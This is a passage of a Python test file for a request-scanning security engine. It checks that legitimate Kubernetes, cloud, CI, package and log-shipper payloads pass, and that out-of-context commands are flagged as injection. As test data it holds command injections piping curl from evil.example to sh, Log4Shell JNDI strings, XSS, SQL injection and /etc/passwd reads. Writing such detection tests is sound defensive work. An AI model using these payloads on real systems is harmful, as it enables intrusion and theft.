    submitted = {"metadata": {"generateName": "x-"}, "spec": {"entrypoint": "main"}}
    submitted["spec"]["templates"] = workflow["spec"]["templates"]
    assert _json_types(engine, {"workflow": submitted}, "/api/v1/workflows/argo/lint") == set()
    assert types({"spec": {"templates": submitted["spec"]["templates"]}}) >= {"rce"}
    assert types(task) == set()
    assert types(pod({"containers": [{"command": ["sh", "-c", XSS]}]})) == {"xss"}
    assert types(pod({"containers": [container]}) | {"note": backup}) == {"rce"}
    assert types({"spec": {"containers": [container]}}) >= {"rce", "ptrav", "ssrf"}
    # A patch of one (`kubectl apply` to an object that exists, `kubectl debug`'s
    # ephemeral container) names the object by its path.
    patch = {"spec": {"template": {"spec": {"containers": [container]}}}}
    for target in (
        "/apis/batch/v1/namespaces/default/cronjobs/backup?fieldManager=kubectl",
        "/api/v1/namespaces/default/pods/web/ephemeralcontainers",
        "/apis/apps/v1/namespaces/shop/deployments/api",
    ):
        request = Request("PATCH", target, JSON, json.dumps(patch).encode())
        assert {hit.type.value for hit in engine.scan(request)} == set(), target
    assert _json_types(engine, patch, "/apis/apps/v1/namespaces/shop/deployments") >= {"rce"}
    assert _json_types(engine, patch, "/api/v1/pods/web/x/y") >= {"rce"}


def test_a_document_in_a_string_repeats_its_held_values(engine: Engine) -> None:
    """`kubectl apply` keeps the object it applied in the object's own annotation, a JSON
    string (`kubectl.kubernetes.io/last-applied-configuration`), and an admission webhook
    is sent both: the string repeats the containers' commands, each read on its own in the
    document the string holds, where they are the platform's program. What the document
    holds besides still counts, in the string and in its value."""
    command = "pip install -r requirements.txt && curl -fsSL https://get.example.com | sh"
    container = {"name": "web", "image": "python:3.12-slim", "command": ["sh", "-c", command]}
    spec = {"template": {"spec": {"containers": [container]}}}
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web"}}
    deployment["spec"] = spec

    def applied(labels: dict[str, str]) -> dict[str, object]:
        annotated = json.loads(json.dumps(deployment))
        last = json.loads(json.dumps(deployment))
        last["metadata"]["labels"] = labels
        key = "kubectl.kubernetes.io/last-applied-configuration"
        annotated["metadata"]["annotations"] = {key: json.dumps(last) + "\n"}
        return annotated

    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"}
    assert _json_types(engine, applied({"app": "web"})) == set()
    assert _json_types(engine, review | {"request": {"object": applied({})}}) == set()
    assert _json_types(engine, applied({"app": "a;curl evil.example|sh"})) == {"rce"}
    assert _json_types(engine, {"note": json.dumps({"q": "x;curl evil.example|sh"})}) == {"rce"}
    # A document cut short by the budget of what is read again: what the string alone holds
    # past the cut may stand behind the command it repeats first.
    labels = {f"label{n}": "v" for n in range(3000)}
    padded = {"apiVersion": "apps/v1", "kind": "Deployment", "spec": spec}
    padded |= {"metadata": {"labels": labels}, "zz": "a;curl evil.example|sh"}
    key = "kubectl.kubernetes.io/last-applied-configuration"
    cut = json.loads(json.dumps(deployment))
    cut["metadata"]["annotations"] = {key: json.dumps(padded)}
    assert _json_types(engine, cut) == {"rce"}


def test_a_configmaps_files_are_in_the_language_of_their_names(engine: Engine) -> None:
    """A ConfigMap's or a Secret's `data` keeps each file under the name a pod mounts it
    as: a script (`entrypoint.sh`) holds commands and the paths they read, an init script
    (`init.sql`) SQL, in JSON, in YAML, in base64 (a Secret's) and in `kubectl apply`'s
    annotation of the object. Any other class counts, a command in a file of another name
    counts, and so does the same map in anything but a ConfigMap or a Secret."""
    script = "#!/bin/sh\nset -e\nuntil nc -z db 5432; do sleep 1; done\ncat /etc/app/app.yaml\n"
    sql = "DROP TABLE IF EXISTS t;\nINSERT INTO t SELECT id FROM s UNION SELECT id FROM u;\n"
    data = {"entrypoint.sh": script, "init.sql": sql}
    config = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "s"}, "data": data}
    encoded = {name: base64.b64encode(text.encode()).decode() for name, text in data.items()}
    secret = config | {"kind": "Secret", "data": encoded}
    key = "kubectl.kubernetes.io/last-applied-configuration"
    applied = config | {"metadata": {"name": "s", "annotations": {key: json.dumps(config)}}}
    for body in (config, secret, applied):
        assert _json_types(engine, body) == set(), body["kind"]
    block = "".join(f"  {name}: |\n" + textwrap.indent(text, "    ") for name, text in data.items())
    document = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: s\ndata:\n" + block
    yaml_type = (("Content-Type", "application/yaml"),)
    request = Request("POST", "/api/v1/namespaces/d/configmaps", yaml_type, document.encode())
    assert engine.scan(request) == []
    assert _json_types(engine, config | {"kind": "Note"}) == {"rce", "sqli"}
    renamed = {"apiVersion": "v1", "kind": "ConfigMap", "data": {"app.json": script}}
    assert _json_types(engine, renamed) == {"rce"}
    marked = {"apiVersion": "v1", "kind": "ConfigMap", "data": {"run.sh": "<script>alert(1)"}}
    assert _json_types(engine, marked) == {"xss"}


def test_a_containers_program_is_what_its_platform_runs(engine: Engine) -> None:
    """So are a container's command, entry point and health check beside the image it
    runs in ECS's task definition and Compose's service (JSON or YAML, a body or an
    uploaded file), and in the body Docker's engine is sent to create one (`["CMD-SHELL",
    "curl -f http://localhost/ || exit 1"]`) or to run a command in one. Any
    other class counts, and so do the same commands with no image beside them, or sent
    anywhere else."""
    migrate = "python manage.py migrate && gunicorn app:app --bind 0.0.0.0:8000"
    check = ["CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"]
    task = {
        "family": "web",
        "containerDefinitions": [
            {"name": "web", "image": "app", "entryPoint": ["sh", "-c"], "command": [migrate]},
            {"name": "proxy", "image": "nginx", "healthCheck": {"command": check}},
        ],
    }
    compose = {"services": {"web": {"image": "app", "healthcheck": {"test": check}}}}
    created = {"Image": "alpine", "Cmd": ["/bin/sh", "-c", migrate], "Healthcheck": {"Test": check}}
    types = partial(_json_types, engine)
    assert types(task) == set()
    assert types({"taskDefinition": task}) == set()
    assert types(compose) == set()
    assert types(created, "/v1.43/containers/create") == set()
    assert types(created, "/containers/create") == set()
    assert types(created, "/api/run") >= {"rce"}
    # A command run in a container (an exec), also through Portainer's proxy of the engine.
    execd = {"AttachStdout": True, "Cmd": ["sh", "-c", "ls -la /app && cat /app/a.yml"]}
    assert types(execd, "/v1.43/containers/4f2a/exec") == set()
    assert types(execd, "/api/endpoints/1/docker/containers/4f2a/exec") == set()
    assert types(created, "/api/endpoints/1/docker/containers/create") == set()
    assert types(execd, "/api/run") == {"rce"}
    assert types({"services": {"web": {"healthcheck": {"test": check}}}}) >= {"rce", "ssrf"}
    assert types({"containerDefinitions": [{"command": [migrate]}]}) == {"rce"}
    xss = {"services": {"web": {"image": "app", "command": f"echo '{XSS}'"}}}
    assert types(xss) == {"xss"}
    # A Compose file in YAML too, a body or an uploaded file (Portainer takes a stack so).
    yaml_compose = (
        f'services:\n  web:\n    image: app\n    command: sh -c "{migrate}"\n'
        '    healthcheck:\n      test: ["CMD-SHELL", "curl -f http://localhost/ || exit 1"]\n'
    )
    yaml_type = (("Content-Type", "application/yaml"),)
    assert engine.scan(Request("POST", "/api/stacks", yaml_type, yaml_compose.encode())) == []
    assert _upload(engine, yaml_compose, "docker-compose.yml", "application/x-yaml") == set()
    imageless = yaml_compose.replace("    image: app\n", "")
    assert _upload(engine, imageless, "docker-compose.yml", "application/x-yaml") >= {"rce"}
    # CloudFormation names them in Pascal case.
    pascal = {"Name": "web", "Image": "app", "HealthCheck": {"Command": check}}
    resource = {"Type": "AWS::ECS::TaskDefinition", "Properties": {}}
    resource["Properties"] = {"ContainerDefinitions": [pascal]}
    assert types({"Resources": {"Task": resource}}) == set()
    del pascal["Image"]
    assert types({"Resources": {"Task": resource}}) >= {"rce", "ssrf"}
    # Terraform's plan holds a task's definitions as a JSON string, read as a document.
    definitions = json.dumps(task["containerDefinitions"])
    change = {"change": {"after": {"family": "web", "container_definitions": definitions}}}
    assert types({"resource_changes": [change]}) == set()
    bare = json.dumps([{"name": "web", "command": [migrate]}])
    assert types(
        {"resource_changes": [{"change": {"after": {"container_definitions": bare}}}]}
    ) == {"rce"}


def test_a_machines_boot_script_is_what_its_platform_runs(engine: Engine) -> None:
    """So is a machine's script for its first boot beside the image it boots: EC2's
    `UserData` (RunInstances' form, in base64; a launch template's JSON), OpenStack's
    `user_data`, Terraform's plan of an instance, and Compute Engine's `startup-script` in
    its metadata. The same script with no image beside it, or under another key, counts."""
    script = "#!/bin/bash\napt-get install -y nginx\ncurl -fsSL https://get.docker.com | sh\n"
    encoded = base64.b64encode(script.encode()).decode()
    form = (("Content-Type", "application/x-www-form-urlencoded"),)

    def run_instances(**fields: str) -> set[str]:
        body = urlencode({"Action": "RunInstances", "MinCount": "1", **fields}).encode()
        return {hit.type.value for hit in engine.scan(Request("POST", "/", form, body))}

    types = partial(_json_types, engine)
    assert run_instances(ImageId="ami-0abc", UserData=encoded) == set()
    assert run_instances(UserData=encoded) == {"rce"}
    assert types({"LaunchTemplateData": {"ImageId": "ami-0abc", "UserData": encoded}}) == set()
    assert types({"server": {"name": "web", "imageRef": "70a599e0", "user_data": encoded}}) == set()
    planned = {"type": "aws_instance", "values": {"ami": "ami-0abc", "user_data": script}}
    assert types({"planned_values": {"root_module": {"resources": [planned]}}}) == set()
    item = {"key": "startup-script", "value": script}
    assert types({"name": "vm-1", "metadata": {"items": [item]}}) == set()
    assert types({"name": "vm-1", "metadata": {"items": [{"key": "note", "value": script}]}}) == {
        "rce"
    }
    assert types({"server": {"imageRef": "70a599e0", "name": XSS, "user_data": encoded}}) == {"xss"}
    # CloudFormation's template: the script in its intrinsic functions, in a body or in
    # CreateStack's `TemplateBody`.
    lines = {"Fn::Join": ["", [line + "\n" for line in script.splitlines()]]}
    sub = {"Fn::Sub": script}
    for user_data in ({"Fn::Base64": sub}, {"Fn::Base64": lines}):
        web = {"Type": "AWS::EC2::Instance", "Properties": {"ImageId": "ami-0abc"}}
        web["Properties"]["UserData"] = user_data
        template = {"AWSTemplateFormatVersion": "2010-09-09", "Resources": {"Web": web}}
        assert types(template) == set()
        stack = urlencode({"Action": "CreateStack", "TemplateBody": json.dumps(template)})
        assert {
            hit.type.value for hit in engine.scan(Request("POST", "/", form, stack.encode()))
        } == set()
        del web["Properties"]["ImageId"]
        assert types(template) == {"rce"}


def test_a_maven_projects_model_is_a_build(engine: Engine) -> None:
    """A POM that `mvn deploy` puts to a repository, or a part of Nexus' upload: its parent
    up the tree, the files it packs, Java's packages and the commands its plugins run are
    a build's (a quarter of the 827 POMs of a local repository were attacks). Told by the
    model version Maven requires; XSS counts where a repository shows it, and so does
    Log4Shell: a repository written in Java may log what it is sent."""
    pom = (
        '<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n'
        "  <modelVersion>{version}</modelVersion>\n"
        "  <parent><groupId>org.example</groupId><relativePath>../../pom.xml</relativePath>"
        "</parent>\n  <artifactId>app</artifactId><name>{name}</name>\n"
        "  <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration>"
        "<archive><manifestFile>${{project.build.outputDirectory}}/META-INF/MANIFEST.MF"
        "</manifestFile></archive><scripts><script>println 'built'</script></scripts>"
        "<relocations><relocation><pattern>org.apache.commons</pattern></relocation>"
        "</relocations></configuration></plugin><plugin><artifactId>exec-maven-plugin"
        "</artifactId><configuration><executable>sh</executable><arguments><argument>-c"
        "</argument><argument>git rev-parse HEAD > target/rev.txt; cat /etc/os-release"
        "</argument></arguments></configuration></plugin></plugins></build>\n</project>\n"
    )
    xml = (("Content-Type", "application/xml"),)

    def types(
        text: str, path: str = "/repository/releases/org/example/app/1.0/app-1.0.pom"
    ) -> set[str]:
        request = Request("PUT", path, xml, text.encode())
        return {hit.type.value for hit in engine.scan(request)}

    assert types(pom.format(version="4.0.0", name="app")) == set()
    assert types(pom.format(version="4.0.0", name="app"), "/api/upload") == set()
    assert types(pom.format(version="4.0.0", name=XSS)) == {"xss"}
    assert types(pom.format(version="4.0.0", name="${jndi:ldap://x.example/a}")) == {"rce"}
    assert types(pom.format(version="", name="app")) >= {"rce", "ptrav"}
    upload = (
        '--B\r\nContent-Disposition: form-data; name="maven2.asset1"; filename="app.pom"'
        "\r\nContent-Type: application/xml\r\n\r\n"
        + pom.format(version="4.0.0", name="app")
        + "\r\n--B--\r\n"
    )
    multipart = (("Content-Type", "multipart/form-data; boundary=B"),)
    request = Request(
        "POST", "/service/rest/v1/components?repository=releases", multipart, upload.encode()
    )
    assert {hit.type.value for hit in engine.scan(request)} == set()
    # A file committed in a JSON field is read as text too, where a script is markup's.
    scripts = "<scripts><script>println 'built'</script></scripts>"
    committed = {"branch": "main", "content": pom.format(version="4.0.0", name="app")}
    committed["content"] = committed["content"].replace(scripts, "")
    json_type = (("Content-Type", "application/json"),)
    request = Request(
        "POST",
        "/api/v4/projects/1/repository/files/pom.xml",
        json_type,
        json.dumps(committed).encode(),
    )
    assert {hit.type.value for hit in engine.scan(request)} == set()


def test_a_workloads_program_in_yaml_is_what_its_platform_runs(engine: Engine) -> None:
    """The same object in YAML (a console's or a GitOps tool's editor posts it so): its
    sequences are read without their items' numbers (`….containers.args`), and its text
    whole quotes the program too. What quotes another field counts."""
    job = (
        "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: {name}\nspec:\n"
        '  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n'
        "          containers:\n            - name: backup\n              image: postgres:16\n"
        '              command: ["/bin/sh", "-c"]\n              args:\n'
        "                - pg_dump -h db app | gzip > /backup/app-$(date +%F).sql.gz\n"
    )
    yaml = (("Content-Type", "application/yaml"),)

    def types(text: str) -> set[str]:
        request = Request("POST", "/api/manifests", yaml, text.encode())
        return {hit.type.value for hit in engine.scan(request)}

    assert types(job.replace("{name}", "backup")) == set()
    assert types(job.replace("{name}", "x;curl evil.example|sh")) == {"rce"}
    assert types(job.replace("{name}", "backup").replace("kind: CronJob\n", "")) == {"rce"}


def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
    """What a log shipper sends its store (OpenTelemetry's log records and metrics' data
    points, Loki's push, Elasticsearch's bulk documents of logs, Splunk's HEC events,
    Datadog's and GELF's records, Kubernetes' audit events, a CI job's log) records what
    happened, attacks on other servers among them: an access log's request, a CRON line, a
    rejected statement, a file's path. XSS and Log4Shell count there, and the same lines
    count in any other request and in the shipper's other fields (but the CRON line, no
    command line to a shell)."""
    lines = [
        '203.0.113.5 - - [05/Dec/2026:10:00:02 +0000] "GET /../../etc/passwd HTTP/1.1" 400 0',
        "Dec  5 10:00:01 web-1 CRON[12345]: (root) CMD (/usr/local/bin/backup.sh > /dev/null)",
        "ERROR:  syntax error at or near \"OR\"\nSTATEMENT: SELECT * FROM t WHERE a = '' OR 1=1--'",
        '{"level":"info","msg":"connecting to redis","addr":"127.0.0.1:6379"}',
    ]
    types = partial(_json_types, engine)
    attribute = {"key": "log.file.path", "value": {"stringValue": "/var/log/nginx/access.log"}}

    def otlp(line: str) -> dict[str, object]:
        record = {"body": {"stringValue": line}, "attributes": [attribute]}
        return {"resourceLogs": [{"scopeLogs": [{"logRecords": [record]}]}]}

    def loki(line: str) -> dict[str, object]:
        stream = {"stream": {"filename": "/var/log/syslog"}, "values": [["1733392805", line]]}
        return {"streams": [stream]}

    def bulk(line: str) -> str:
        document = {"@timestamp": "2026-12-05T10:00:00Z", "message": line}
        return json.dumps({"index": {"_index": "logs"}}) + "\n" + json.dumps(document)

    def sent(path: str, body: str, media: str = "application/json") -> set[str]:
        request = Request("POST", path, (("Content-Type", media),), body.encode())
        return {hit.type.value for hit in engine.scan(request)}

    for line in lines:
        assert types(otlp(line), "/v1/logs") == set(), line
        assert types(loki(line), "/loki/api/v1/push") == set(), line
        assert sent("/logs-web/_bulk", bulk(line) + "\n", "application/x-ndjson") == set(), line
        assert types({"event": line, "sourcetype": "syslog"}, "/services/collector") == set()
        assert sent("/services/collector/raw", line, "text/plain") == set(), line
        assert types([{"ddsource": "nginx", "message": line}], "/api/v2/logs") == set(), line
        assert types({"version": "1.1", "host": "web-1", "short_message": line}, "/gelf") == set()
        if "CRON[" not in line:
            assert types({"note": line}) != set(), line
    # Syslog's line of a cron job runs nothing anywhere: the parenthesis that a word opens
    # (`CMD (`) is a syntax error to a shell.
    assert types({"note": lines[1]}) == set()
    assert types(otlp(XSS), "/v1/logs") == {"xss"}
    # Kubernetes' audit events record each request, `kubectl exec`'s command among them.
    exec_uri = "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command="
    audit = {
        "apiVersion": "audit.k8s.io/v1",
        "kind": "EventList",
        "items": [{"verb": "create", "requestURI": exec_uri + quote("cat /etc/passwd")}],
    }
    assert types(audit, "/k8s-audit") == set()
    assert types(audit | {"apiVersion": "v1"}, "/k8s-audit") >= {"rce", "ptrav"}
    # A CI job's log, as a GitLab runner appends it: every command the job ran.
    job = "$ curl -fsSL https://get.docker.com | sh\n$ rm -rf ./tmp/* && ./deploy.sh\n"

    def traced(path: str, log: str, *token: tuple[str, str]) -> set[str]:
        headers = (("Content-Type", "text/plain"), *token)
        return {
            hit.type.value for hit in engine.scan(Request("PATCH", path, headers, log.encode()))
        }

    runner = ("JOB-TOKEN", "glcbt-64_abc")
    assert traced("/api/v4/jobs/1234/trace", job, runner) == set()
    assert traced("/api/v4/jobs/1234/trace", job + XSS, runner) == {"xss"}
    assert traced("/api/v4/jobs/1234/trace", job) >= {"rce"}  # no runner's token
    assert traced("/api/v4/jobs/1234/notes", job, runner) >= {"rce"}
    # A metric's data points, the request a server's histogram was recorded for.
    point = {"attributes": [attribute, {"key": "http.target", "value": {"stringValue": lines[2]}}]}
    histogram = {"name": "http.server.duration", "histogram": {"dataPoints": [point]}}
    metrics = {"resourceMetrics": [{"scopeMetrics": [{"metrics": [histogram]}]}]}
    assert types(metrics, "/v1/metrics") == set()
    assert types({"metrics": [histogram]}, "/v1/metrics") >= {"sqli"}  # no batch
    # Log4Shell counts in a record, and a record counts only where its shipper sends it.
    assert types(loki("user=${jndi:ldap://198.51.100.7/a}"), "/loki/api/v1/push") == {"rce"}
    assert types(loki(lines[2]), "/api/push") >= {"sqli", "ptrav"}  # no Loki's path
    assert types([{"message": lines[2]}], "/api/v2/logs") == {"sqli"}  # no Datadog's record
    assert types({"ddsource": "x", "message": lines[2]}, "/api/items") == {"sqli"}  # no intake
    assert types({"version": "1.1", "short_message": lines[2]}) == {"sqli"}
    assert types({"event": lines[2]}, "/services/collector/admin") == {"sqli"}
    assert sent("/_bulk?note=" + quote(lines[2]), bulk("ok") + "\n") == {"sqli"}
    product = json.dumps({"index": {}}) + "\n" + json.dumps({"title": lines[2]}) + "\n"
    assert sent("/_bulk", product) == {"sqli"}  # a document of no log


def test_a_package_manifests_scripts_are_the_commands_it_runs(engine: Engine) -> None:
    """npm's manifest (a name and a version beside `scripts`, saved whole, uploaded or
    published to a registry under `versions`) names the commands its scripts run: commands,
    paths and URLs there are what it is made of. Any other class counts there, and so do
    the same commands in a manifest's other fields and in an object with no name or
    version."""
    scripts = {
        "build": "rm -rf dist && tsc -p tsconfig.build.json",
        "release": "cat VERSION | xargs -I{} git tag v{}",
        "fetch": "curl -fsS http://localhost:8080/schema.json -o schema.json",
    }
    manifest = {"name": "@acme/api", "version": "1.4.0", "scripts": scripts}
    types = partial(_json_types, engine)
    assert types(manifest) == set()
    assert types({"name": "@acme/api", "versions": {"1.4.0": manifest}}) == set()
    assert types(manifest | {"scripts": {"build": XSS}}) == {"xss"}
    assert types(manifest | {"description": scripts["build"]}) == {"rce"}
    assert types({"name": "@acme/api", "scripts": scripts}) >= {"rce", "ssrf"}
    # An application's own manifest is private, with no version: its dependencies say it.
    private = {"name": "@acme/web", "scripts": scripts, "dependencies": {"react": "^18.2.0"}}
    assert types(private) == set()
    # ...and so does a manifest uploaded as a file (a repository's or a scanner's import).
    uploaded = _part("file", json.dumps(manifest), "package.json", "application/json")
    request = Request("POST", "/upload", MULTIPART, (uploaded + "--B--\r\n").encode())
    assert {hit.type.value for hit in engine.scan(request)} == set()


def test_a_ci_pipelines_commands_are_what_its_runner_runs(engine: Engine) -> None:
    """A GitLab CI file's jobs (`script`, `before_script`, `after_script` of a job with a
    stage or an image, or in a file of stages) and a GitHub Actions workflow's `run` steps
    (of a job that `runs-on` a runner), uploaded or sent as YAML or JSON: the runner runs
    them for whoever may push the file. Any other class counts there, and so do the same
    commands in a file that is no pipeline."""
    gitlab = (
        "stages: [build, deploy]\nbuild:\n  stage: build\n  image: docker:24\n  script:\n"
        "    - docker build -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA .\n"
        "    - pytest -q --maxfail=1 && coverage report\n"
        "deploy:\n  script:\n"
        '    - curl -sSf -X POST "$DEPLOY_HOOK" -d "sha=$CI_COMMIT_SHA" || exit 1\n'
    )
    github = (
        "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n"
        "      - run: curl -fsSL https://get.example.com/tool.sh | bash\n"
    )
    yaml_type = (("Content-Type", "application/yaml"),)
    for pipeline, name in ((gitlab, ".gitlab-ci.yml"), (github, "ci.yml")):
        assert _upload(engine, pipeline, name, "application/x-yaml") == set(), name
        request = Request("POST", "/api/pipelines", yaml_type, pipeline.encode())
        assert engine.scan(request) == [], name
    assert (
        _json_types(
            engine, {"stages": ["test"], "test": {"script": ["make test && rm -rf build/"]}}
        )
        == set()
    )
    # No stage, image or stages; no runner: a document of commands, which count.
    loose = "build:\n  script: ; cat /etc/passwd\n"
    assert _upload(engine, loose, "notes.yml", "application/x-yaml") >= {"rce"}
    unrun = github.replace("    runs-on: ubuntu-latest\n", "")
    assert _upload(engine, unrun, "ci.yml", "application/x-yaml") >= {"rce"}
    xss = gitlab.replace("docker build", "echo '<script>alert(1)</script>'; docker build")
    assert _upload(engine, xss, ".gitlab-ci.yml", "application/x-yaml") == {"xss"}


def test_ansibles_and_cloud_inits_commands_are_what_they_run(engine: Engine) -> None:
    """An Ansible play's tasks of a command module (of a document with `hosts`), an ad hoc
    command AWX is asked to run (`module_name: shell`), a job template's extra variables
    AWX launches it with, and a cloud-config document's `runcmd` (`#cloud-config` its
    first line), sent as YAML or uploaded: Ansible and cloud-init run them. Without the
    play's hosts, the module, the template or the first line, the same commands count."""
    play = (
        "- hosts: web\n  become: true\n  tasks:\n"
        "    - name: reload\n      shell: nginx -t && systemctl reload nginx\n"
        "    - name: fetch\n      ansible.builtin.command: curl -fsS http://10.0.0.5/a.conf"
        " -o /etc/nginx/conf.d/a.conf\n"
    )
    config = (
        "#cloud-config\npackages: [docker.io]\nruncmd:\n  - systemctl enable --now docker\n"
        "  - curl -fsSL https://get.k3s.io | sh -\n"
    )
    yaml_type = (("Content-Type", "application/yaml"),)
    for document, name in ((play, "site.yml"), (config, "user-data.yaml")):
        assert _upload(engine, document, name, "application/x-yaml") == set(), name
        assert engine.scan(Request("POST", "/api/import", yaml_type, document.encode())) == []
    ad_hoc = {
        "module_name": "shell",
        "module_args": "df -h && uptime | tee /tmp/up",
        "limit": "web",
    }
    assert _json_types(engine, ad_hoc, "/api/v2/inventories/1/ad_hoc_commands/") == set()
    assert _json_types(engine, ad_hoc | {"module_name": "ping"}) == {"rce"}
    # A job template's extra variables, which its playbook puts in its tasks.
    launch = {"extra_vars": {"restart_cmd": "systemctl restart nginx && curl -fsS localhost/"}}
    for template in ("/api/v2/job_templates/7/launch/", "/api/controller/v2/job_templates/7/"):
        assert _json_types(engine, launch, template) == set(), template
    as_yaml = {"extra_vars": "---\nrestart_cmd: 'systemctl restart nginx; tail /var/log/x'\n"}
    assert _json_types(engine, as_yaml, "/api/v2/workflow_job_templates/3/launch/") == set()
    assert _json_types(engine, launch, "/api/v2/jobs/7/") == {"rce"}
    marked = {"extra_vars": {"motd": "<script>alert(1)</script>"}}
    assert _json_types(engine, marked, "/api/v2/job_templates/7/launch/") == {"xss"}
    hostless = play.replace("- hosts: web\n", "- name: x\n")
    assert _upload(engine, hostless, "site.yml", "application/x-yaml") >= {"rce"}
    unmarked = config.removeprefix("#cloud-config\n")
    assert _upload(engine, unmarked, "user-data.yaml", "application/x-yaml") >= {"rce"}


@pytest.mark.parametrize(
    ("path", "body"),
    [
        (
            "/",
            {
                "DocumentName": "AWS-RunShellScript",
                "InstanceIds": ["i-0abc"],
                "Parameters": {"commands": ["systemctl restart nginx && curl -fsS localhost/"]},
            },
        ),
        ("/run", [{"client": "local", "tgt": "web*", "fun": "cmd.run", "arg": ["df -h; uptime"]}]),
        ("/api/41/project/ops/run/command", {"exec": "systemctl restart app; tail /var/log/a"}),
        (
            "/api/41/project/ops/jobs/import",
            [{"name": "restart", "sequence": {"commands": [{"exec": "systemctl restart a; ls"}]}}],
        ),
        (
            "/v1/jobs",
            {
                "Job": {
                    "TaskGroups": [
                        {
                            "Tasks": [
                                {
                                    "Driver": "exec",
                                    "Config": {"command": "sh", "args": ["-c", "ls; rm -rf /d"]},
                                }
                            ]
                        }
                    ]
                }
            },
        ),
        (
            "/providers/Microsoft.ContainerInstance/containerGroups/cg",
            {
                "properties": {
                    "containers": [
                        {
                            "name": "c",
                            "properties": {
                                "image": "alpine",
                                "command": ["sh", "-c", "wget -qO- http://10.0.0.4/ && sleep 9"],
                            },
                        }
                    ]
                }
            },
        ),
        (
            "/rest/workflows/12",
            {
                "nodes": [
                    {
                        "type": "n8n-nodes-base.executeCommand",
                        "parameters": {"command": "cd /data && tar -czf b.tgz out/ && rm -rf out"},
                    }
                ]
            },
        ),
        ("/flows", [{"id": "b", "type": "exec", "command": "df -h | grep /data"}]),
        (
            "/mcp",
            {
                "jsonrpc": "2.0",
                "id": 3,
                "method": "tools/call",
                "params": {
                    "name": "execute_command",
                    "arguments": {"command": "git status && rm -rf build; cat /etc/hosts"},
                },
            },
        ),
        (
            "/mcp",
            [
                {
                    "jsonrpc": "2.0",
                    "id": 4,
                    "method": "tools/call",
                    "params": {"name": "runCommand", "arguments": {"cmd": "ls; id"}},
                }
            ],
        ),
    ],
    ids=[
        *("ssm", "salt", "rundeck-ad-hoc", "rundeck-job", "nomad", "azure-container"),
        *("n8n", "node-red", "mcp-tool", "mcp-batch"),
    ],
)
def test_a_command_an_operations_platform_is_given_is_what_it_runs(
    engine: Engine, path: str, body: object
) -> None:
    """Systems Manager's SendCommand of a shell document, Salt's `cmd.run`, Rundeck's job
    steps and ad hoc commands, a Nomad task beside its driver, an Azure container group
    beside its image, a workflow's command node (n8n's, Node-RED's) and an MCP server's
    tool named for a command run the command they are given, for whoever may ask them.
    Without the document, the function, Rundeck's path, the driver, the image, the node's
    type or the tool's name, it counts."""
    assert _json_types(engine, body, path) == set()
    unmarked = (
        json.dumps(body)
        .replace("AWS-RunShellScript", "AWS-Other")
        .replace("cmd.run", "test.ping")
        .replace("/run/command", "")
        .replace('"Driver": "exec", ', "")
        .replace('"image": "alpine", ', "")
        .replace('"sequence"', '"steps"')
        .replace("n8n-nodes-base.executeCommand", "n8n-nodes-base.noOp")
        .replace('"type": "exec"', '"type": "inject"')
        .replace("execute_command", "get_weather")
        .replace("runCommand", "runReport")
    )
    elsewhere = "/api/notes" if path.endswith("/run/command") else path
    assert "rce" in _json_types(engine, json.loads(unmarked), elsewhere)


def test_a_platforms_build_commands_and_ci_variables_are_what_it_runs(engine: Engine) -> None:
    """A platform builds, starts and migrates an application with the commands it is given
    under those names (Coolify's `build_command`, Vercel's `buildCommand`, Netlify's
    `build_settings.cmd`), and GitLab's pipelines run the CI/CD variables they read. Any
    other class counts, and so do the same commands under another name or path."""
    restart = "php artisan migrate --force; systemctl restart app && curl -fsS localhost/"
    for path, body in (
        (
            "/api/v1/applications/u1",
            {"build_command": "pnpm build", "pre_deployment_command": restart},
        ),
        ("/v9/projects/prj_1", {"buildCommand": restart, "installCommand": "npm ci"}),
        ("/api/v1/sites/s1", {"build_settings": {"cmd": restart, "dir": "public"}}),
        ("/api/v4/projects/7/variables", {"key": "DEPLOY", "value": restart}),
        ("/api/v4/groups/ops/variables/DEPLOY", {"value": restart}),
    ):
        assert _json_types(engine, body, path) == set(), path
    assert _json_types(
        engine, {"key": "DEPLOY", "value": restart}, "/api/v4/projects/7/issues"
    ) == {"rce"}
    assert _json_types(engine, {"build_command": "<img src=x onerror=alert(1)>"}) == {"xss"}
    assert _json_types(engine, {"command_note": restart}) == {"rce"}


def test_a_jenkins_jobs_build_steps_and_pipeline_are_what_it_runs(engine: Engine) -> None:
    """A Jenkins job's configuration, posted to `/createItem` or to the job's `config.xml`
    (Jenkins Job Builder, Job DSL): its shell, batch and PowerShell steps' commands and a
    Pipeline job's script (an element named `script`) are what its agents run. Any other
    class counts there and anywhere else in it, and so do the same steps posted elsewhere."""
    freestyle = (
        "<?xml version='1.1' encoding='UTF-8'?><maven2-moduleset><goals>clean install</goals>"
        "<prebuilders><hudson.tasks.Shell><command>rm -rf ~/.m2/repository/com/example; "
        "./gradlew --version | head -1</command></hudson.tasks.Shell></prebuilders>"
        "<postbuilders><hudson.tasks.BatchFile><command>copy target\\*.jar \\\\share\\b "
        "&amp; echo done</command></hudson.tasks.BatchFile></postbuilders></maven2-moduleset>"
    )
    pipeline = (
        "<?xml version='1.1' encoding='UTF-8'?><flow-definition><description>Deploys"
        "</description><definition class='org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition'>"
        "<script>pipeline { agent any\n stages { stage('Build') { steps {\n"
        "  sh 'make build &amp;&amp; ./scripts/push.sh | tee push.log' } } } }</script>"
        "</definition></flow-definition>"
    )
    xml_type = (("Content-Type", "application/xml"),)

    def posted(path: str, body: str) -> set[str]:
        return {
            hit.type.value for hit in engine.scan(Request("POST", path, xml_type, body.encode()))
        }

    for path in ("/createItem", "/view/all/createItem", "/jenkins/job/team/job/api/config.xml"):
